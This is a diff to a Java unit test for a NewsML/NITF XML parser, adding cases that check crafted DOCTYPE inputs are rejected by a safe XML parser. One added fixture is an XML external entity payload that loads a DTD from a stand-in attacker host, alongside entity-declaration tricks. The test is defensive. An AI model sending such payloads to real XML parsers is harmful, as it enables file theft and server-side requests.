@@ -66,6 +66,16 @@ class NitfDoctypeTest {
             "<!DOCTYPE nitf SYSTEM \"NewsMLv1.2.dtd\"><nitf/>"}) {
             assertThat(stripNewsml(refused)).as(refused).isEqualTo(refused);
         }
+        // End to end: whatever is not the standard preamble still reaches SafeXml with its DOCTYPE, and is refused.
+        String standardPart = "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\">";
+        for (String crafted : new String[] {
+            "<!-- " + standardPart + " --><!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY x \"y\">]><NewsML>&x;</NewsML>",
+            standardPart + "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY x \"y\">]><NewsML>&x;</NewsML>",
+            "<!DOCTYPE NewsML SYSTEM \"NewsMLv1.2.dtd\" [<!ENTITY % e SYSTEM \"http://attacker.example/evil.dtd\"> %e;]><NewsML/>"}) {
+            byte[] bytes = crafted.getBytes(StandardCharsets.UTF_8);
+            org.assertj.core.api.Assertions.assertThatThrownBy(() -> SafeXml.parse(NitfDoctype.stripStandardNewsml(bytes))).as(crafted)
+                    .isInstanceOf(WireParseException.class);
+        }
     }
 
     private static String stripNewsml(String xml) {
